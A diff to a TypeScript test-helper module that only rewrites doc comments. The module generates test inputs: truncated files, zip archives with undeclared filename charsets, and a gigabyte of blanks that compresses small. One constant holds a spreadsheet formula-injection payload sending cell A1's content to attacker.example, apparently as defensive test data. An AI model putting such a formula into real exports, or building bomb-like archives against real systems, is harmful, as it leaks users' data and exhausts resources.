@@ -4,10 +4,10 @@ import { Readable, type Transform } from 'node:stream';
 import { pipeline } from 'node:stream/promises';
 import { crc32, createDeflateRaw } from 'node:zlib';
 
-/** Characters of a piece: large enough to be quick, small enough to need no memory. */
+/** Characters per piece: large enough to be fast, small enough to save memory. */
 const PIECE = 64 * 1024;
 
-/** Lines as pieces of bytes. */
+/** Encodes lines in pieces. */
 export function* piecesOf(lines: Iterable<string>, charset: 'utf8' | 'gbk'): Iterable<Buffer> {
   let text = '';
   for (const line of lines) {
@@ -19,7 +19,7 @@ export function* piecesOf(lines: Iterable<string>, charset: 'utf8' | 'gbk'): Ite
   if (text !== '') yield iconv.encode(text, charset);
 }
 
-/** Pieces one by one, with time for others in between. */
+/** Yields pieces one by one, so that other work can run in between. */
 export async function* inTurn(pieces: Iterable<Buffer>): AsyncIterable<Buffer> {
   for (const piece of pieces) {
     yield piece;
@@ -27,7 +27,7 @@ export async function* inTurn(pieces: Iterable<Buffer>): AsyncIterable<Buffer> {
   }
 }
 
-/** The first half of a file: as long as a writer came. */
+/** Yields the first half of a file, as if its writer had stopped there. */
 export async function* firstHalf(pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
   const all: Buffer[] = [];
   for await (const piece of pieces) all.push(piece);
@@ -35,36 +35,36 @@ export async function* firstHalf(pieces: AsyncIterable<Buffer>): AsyncIterable<B
   yield file.subarray(0, file.length >> 1);
 }
 
-/** Whole minor units as an amount of two decimals, with its sign. */
+/** Formats minor units with two decimals and the sign. */
 export function hundredths(minor: number): string {
   const digits = String(Math.abs(minor)).padStart(3, '0');
   return `${minor < 0 ? '-' : ''}${digits.slice(0, -2)}.${digits.slice(-2)}`;
 }
 
-/** What no reader takes for an amount. */
+/** A text that no reader accepts as an amount. */
 export const UNREADABLE = '--';
 
-/** What a spreadsheet would take for a formula. */
+/** A text that a spreadsheet would read as a formula. */
 export const FORMULA = `=HYPERLINK("http://attacker.example/"&A1;"open")`;
 
 const BLANKS = Buffer.alloc(1024 * 1024, ' ');
 
-/** What a packer makes of these pieces. */
+/** Packs the pieces. */
 export async function* packedBy(packer: Transform, pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
   const feeding = pipeline(Readable.from(pieces, { objectMode: false }), packer);
-  // Whoever reads the packer hears of its error; this is only so that nobody else does.
+  // The packer's reader gets the error; this only avoids an unhandled rejection.
   feeding.catch(() => undefined);
   for await (const piece of packer as AsyncIterable<Buffer>) yield piece;
   await feeding;
 }
 
-/** A file that is followed by a gigabyte of blanks: packed it is small. */
+/** Appends a gigabyte of blanks to a file; packed it is small. */
 export async function* withGigabyte(pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
   yield* pieces;
   for (let count = 0; count < 1024; count += 1) yield BLANKS;
 }
 
-/** A file of a zip. `name` is written as it is: nothing says in which charset (flag bit 11 is not set). */
+/** A file of a zip. `name` is written as it is: the charset is not declared (flag bit 11 is not set). */
 export interface ZipEntry {
   name: Buffer;
   content: AsyncIterable<Buffer>;
@@ -80,7 +80,7 @@ interface Sums {
   size: number;
 }
 
-/** A zip in pieces, sizes and checksums behind each file (APPNOTE.TXT 6.3, sections 4.3.7, 4.3.9 and 4.3.12). */
+/** Writes a zip in pieces, with sizes and checksums behind each file (APPNOTE.TXT 6.3, sections 4.3.7, 4.3.9 and 4.3.12). */
 export async function* zipOf(entries: readonly ZipEntry[], at: number): AsyncGenerator<Buffer> {
   const directory: Buffer[] = [];
   let offset = 0;
@@ -99,7 +99,7 @@ export async function* zipOf(entries: readonly ZipEntry[], at: number): AsyncGen
   yield end(entries.length, central.length, offset);
 }
 
-/** Deflates what comes; the sums grow on the way. */
+/** Deflates the content and updates the sums. */
 async function* deflated(content: AsyncIterable<Buffer>, sums: Sums): AsyncIterable<Buffer> {
   const counted = async function* () {
     for await (const piece of content) {
@@ -160,7 +160,7 @@ function end(count: number, size: number, offset: number): Buffer {
   return bytes;
 }
 
-/** Date and time as MS-DOS has them, of Beijing: the time first, as they stand in a header. */
+/** Date and time of Beijing in MS-DOS format, with the time first, as in a header. */
 function dosTime(at: number): number {
   const day = new Date(at + 8 * 3_600_000);
   const time = (day.getUTCHours() << 11) | (day.getUTCMinutes() << 5) | (day.getUTCSeconds() >> 1);
